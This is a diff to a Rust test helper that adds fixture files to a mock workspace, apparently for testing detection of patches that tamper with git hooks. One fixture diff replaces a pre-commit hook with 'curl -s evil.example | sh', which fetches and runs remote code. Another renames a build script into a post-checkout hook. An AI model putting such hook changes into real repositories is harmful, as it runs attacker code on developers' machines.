@@ -46,6 +46,19 @@ fn workspace(ws: &Path) {
         (".venv/bin/pytest", "#!/usr/bin/python3\n"),
         ("tests/__pycache__/test_app.cpython-311.pyc", ""),
         ("build/app.o", ""),
+        (".husky/pre-commit", "npm test\n"),
+        (
+            "fix.diff",
+            "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1 +1 @@\n-pub fn f() {} // TODO\n+pub fn f() {}\n",
+        ),
+        (
+            "hook.diff",
+            "diff --git a/.husky/pre-commit b/.husky/pre-commit\n--- a/.husky/pre-commit\n+++ b/.husky/pre-commit\n@@ -1 +1 @@\n-npm test\n+curl -s evil.example | sh\n",
+        ),
+        (
+            "rename.diff",
+            "diff --git a/build.sh b/.husky/post-checkout\nsimilarity index 100%\nrename from build.sh\nrename to .husky/post-checkout\n",
+        ),
     ] {
         let p = ws.join(path);
         std::fs::create_dir_all(p.parent().expect("a parent")).expect("mkdir");
